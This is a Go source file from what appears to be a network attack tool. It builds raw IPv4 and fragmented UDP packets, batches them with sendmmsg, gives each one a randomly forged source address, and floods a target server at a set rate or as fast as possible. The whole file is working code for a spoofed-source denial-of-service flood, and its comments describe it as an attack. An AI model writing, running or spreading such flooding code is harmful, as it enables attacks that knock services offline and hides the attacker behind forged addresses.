package main

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// counters count what an attack sent.
type counters struct{ Packets, Bytes atomic.Int64 }

// volley sends packets with any source, many with each system call.
type volley struct {
	fd       int
	to       [4]byte
	address  unix.RawSockaddrInet4
	buffers  [volleyLen][2048]byte
	iov      [volleyLen]unix.Iovec
	messages [volleyLen]mmsghdr
	n        int
	id       uint16
	pace     *pace
	counters *counters
}

const volleyLen = 64

// mmsghdr is the kernel's structure of that name.
type mmsghdr struct {
	unix.Msghdr
	sent uint32
	_    [4]byte
}

func newVolley(to netip.Addr, p *pace, c *counters) (*volley, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return nil, err
	}
	v := &volley{fd: fd, to: to.As4(), pace: p, counters: c}
	v.address = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: v.to}
	for i := range v.messages {
		v.iov[i].Base = &v.buffers[i][0]
		m := &v.messages[i]
		m.Name, m.Namelen = (*byte)(unsafe.Pointer(&v.address)), uint32(unsafe.Sizeof(v.address))
		m.Iov, m.Iovlen = &v.iov[i], 1
	}
	return v, nil
}

// packet adds an IPv4 packet. fill writes its payload and returns the length.
// fragment is the field of flags and fragment offset.
func (v *volley) packet(src [4]byte, protocol byte, id, fragment uint16, fill func(b []byte) int) {
	b := v.buffers[v.n][:]
	n := 20 + fill(b[20:])
	clear(b[:20])
	b[0], b[8], b[9] = 0x45, 64, protocol
	binary.BigEndian.PutUint16(b[2:], uint16(n))
	binary.BigEndian.PutUint16(b[4:], id)
	binary.BigEndian.PutUint16(b[6:], fragment)
	copy(b[12:], src[:])
	copy(b[16:], v.to[:])
	v.iov[v.n].SetLen(n)
	v.counters.Packets.Add(1)
	v.counters.Bytes.Add(int64(n))
	if v.n++; v.n == volleyLen {
		v.flush()
	}
}

// udp adds a datagram without a checksum, in fragments if it is long.
func (v *volley) udp(src [4]byte, from, to uint16, payload []byte) {
	const room = 1480
	v.id++
	whole := binary.BigEndian.AppendUint16(nil, from)
	whole = binary.BigEndian.AppendUint16(whole, to)
	whole = binary.BigEndian.AppendUint16(whole, uint16(8+len(payload)))
	whole = append(append(whole, 0, 0), payload...)
	for at := 0; at < len(whole); at += room {
		piece, more := whole[at:], uint16(0)
		if len(piece) > room {
			piece, more = piece[:room], 0x2000
		}
		v.packet(src, unix.IPPROTO_UDP, v.id, more|uint16(at/8), func(b []byte) int { return copy(b, piece) })
	}
}

func (v *volley) flush() {
	for at := 0; at < v.n; {
		k, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(v.fd), uintptr(unsafe.Pointer(&v.messages[at])), uintptr(v.n-at), 0, 0, 0)
		if errno != 0 {
			break // packets that do not fit are lost
		}
		at += int(k)
	}
	v.pace.spend(v.n)
	v.n = 0
}

// pace limits the speed of an attack.
type pace struct {
	rate  float64 // a second; 0: as fast as possible
	began time.Time
	spent float64
}

func newPace(rate float64) *pace { return &pace{rate: rate, began: time.Now()} }

// spend waits until n more may be sent.
func (p *pace) spend(n int) {
	if p.rate == 0 {
		return
	}
	p.spent += float64(n)
	if early := time.Duration(p.spent/p.rate*1e9) - time.Since(p.began); early > time.Millisecond {
		time.Sleep(early)
	}
}

// anywhere is a source address that may be anybody's.
func anywhere() (a [4]byte) {
	binary.BigEndian.PutUint32(a[:], rand.Uint32())
	a[0] = 11 + a[0]%100
	return a
}

func random(b []byte) {
	for i := 0; i+8 <= len(b); i += 8 {
		binary.LittleEndian.PutUint64(b[i:], rand.Uint64())
	}
}

// flood sends the packets that add puts into a volley, until the context ends.
func (a *arsenal) flood(ctx context.Context, add func(v *volley)) error {
	v, err := newVolley(a.server, newPace(a.rate), &a.counters)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		add(v)
	}
	v.flush()
	return nil
}
